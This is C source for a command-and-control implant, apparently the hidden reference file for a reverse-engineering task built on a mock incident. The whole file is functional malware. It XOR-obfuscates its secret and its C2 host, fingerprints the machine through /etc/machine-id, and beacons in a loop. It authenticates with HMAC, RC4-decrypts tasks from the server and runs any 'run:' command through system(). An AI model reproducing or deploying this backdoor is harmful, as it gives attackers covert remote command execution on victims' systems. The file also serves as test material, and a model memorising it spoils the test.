/* Implant recovered in incident IR-4410 (source kept with the C2 service for
 * reviewers; the agent only gets the stripped binary).
 * Build: gcc -O2 -s -o implant implant.c -lcrypto */
#include <netdb.h>
#include <openssl/hmac.h>
#include <openssl/sha.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const unsigned char blob[32] = {0x13, 0xd0, 0x7e, 0x6a, 0x4b, 0x8f, 0xe4, 0x87, 0x6a, 0xf2, 0x13, 0x51, 0x90, 0x81, 0xc7, 0x25, 0xb7, 0x20, 0x0e, 0xfe, 0xd9, 0x0e, 0x6a, 0x17, 0xa9, 0x16, 0x90, 0xb8, 0x36, 0x67, 0x6a, 0x73};
static const unsigned char hblob[3] = {0xc4, 0x95, 0xa7};

struct rc4 { unsigned char s[256]; unsigned i, j; };

static void rc4_init(struct rc4 *r, const unsigned char *k, size_t n)
{
	for (int i = 0; i < 256; i++) r->s[i] = (unsigned char)i;
	for (unsigned i = 0, j = 0; i < 256; i++) {
		j = (j + r->s[i] + k[i % n]) & 255;
		unsigned char t = r->s[i]; r->s[i] = r->s[j]; r->s[j] = t;
	}
	r->i = r->j = 0;
}

static void rc4_xor(struct rc4 *r, unsigned char *p, size_t n)
{
	for (size_t x = 0; x < n; x++) {
		r->i = (r->i + 1) & 255;
		r->j = (r->j + r->s[r->i]) & 255;
		unsigned char t = r->s[r->i]; r->s[r->i] = r->s[r->j]; r->s[r->j] = t;
		if (p) p[x] ^= r->s[(r->s[r->i] + r->s[r->j]) & 255];
	}
}

static void unveil(unsigned char *out)
{
	for (int i = 0; i < 32; i++) out[i] = blob[i] ^ (unsigned char)(0x5A + 13 * i);
}

static void host_id(char out[17])
{
	char buf[512] = {0}, mid[64] = {0};
	gethostname(buf, 200);
	FILE *f = fopen("/etc/machine-id", "r");
	if (f) { if (!fgets(mid, sizeof mid, f)) mid[0] = 0; fclose(f); }
	mid[strcspn(mid, "\n")] = 0;
	strcat(buf, ":");
	strcat(buf, mid);
	unsigned char d[SHA256_DIGEST_LENGTH];
	SHA256((unsigned char *)buf, strlen(buf), d);
	for (int i = 0; i < 8; i++) sprintf(out + 2 * i, "%02x", d[i]);
}

static int readn(int fd, void *p, size_t n)
{
	size_t g = 0;
	while (g < n) { ssize_t r = read(fd, (char *)p + g, n - g); if (r <= 0) return -1; g += (size_t)r; }
	return 0;
}

static int dial(void)
{
	char h[3];
	for (int i = 0; i < 3; i++) h[i] = (char)(hblob[i] ^ 0xA7);
	struct addrinfo hints = {0}, *ai;
	hints.ai_socktype = SOCK_STREAM;
	char port[8];
	snprintf(port, sizeof port, "%d", 0x1d00 | 0x13);
	if (getaddrinfo(h, port, &hints, &ai)) return -1;
	int fd = socket(ai->ai_family, SOCK_STREAM, 0);
	if (fd < 0 || connect(fd, ai->ai_addr, ai->ai_addrlen)) { freeaddrinfo(ai); return -1; }
	freeaddrinfo(ai);
	return fd;
}

int main(void)
{
	unsigned char sec[32], hello[20], msg[16 + 16], mac[32], key[32], kin[32 + 16 + 16];
	char id[17];
	unsigned int maclen = 0;
	host_id(id);
	unveil(sec);
	for (;;) {
		int fd = dial();
		if (fd < 0) { sleep(30); continue; }
		if (readn(fd, hello, 20) || memcmp(hello, "C2v3", 4)) { close(fd); sleep(30); continue; }
		memcpy(msg, hello + 4, 16);
		memcpy(msg + 16, id, 16);
		HMAC(EVP_sha256(), sec, 32, msg, 32, mac, &maclen);
		unsigned char out[48];
		memcpy(out, id, 16);
		memcpy(out + 16, mac, 32);
		if (write(fd, out, 48) != 48) { close(fd); continue; }
		memcpy(kin, sec, 32);
		memcpy(kin + 32, hello + 4, 16);
		memcpy(kin + 48, id, 16);
		SHA256(kin, sizeof kin, key);
		struct rc4 tx, rx;
		rc4_init(&tx, key, 32); rc4_xor(&tx, NULL, 256);
		rc4_init(&rx, key, 32); rc4_xor(&rx, NULL, 256);
		unsigned char req[3] = {'T', 0, 0};
		rc4_xor(&tx, req, 3);
		if (write(fd, req, 3) != 3) { close(fd); continue; }
		unsigned char hdr[3];
		if (readn(fd, hdr, 3)) { close(fd); sleep(60); continue; }
		rc4_xor(&rx, hdr, 3);
		size_t n = (size_t)hdr[1] << 8 | hdr[2];
		char *task = calloc(1, n + 1);
		if (!task || readn(fd, task, n)) { free(task); close(fd); continue; }
		rc4_xor(&rx, (unsigned char *)task, n);
		close(fd);
		if (hdr[0] == 'T' && strncmp(task, "run:", 4) == 0)
			system(task + 4);
		free(task);
		sleep(600);
	}
}
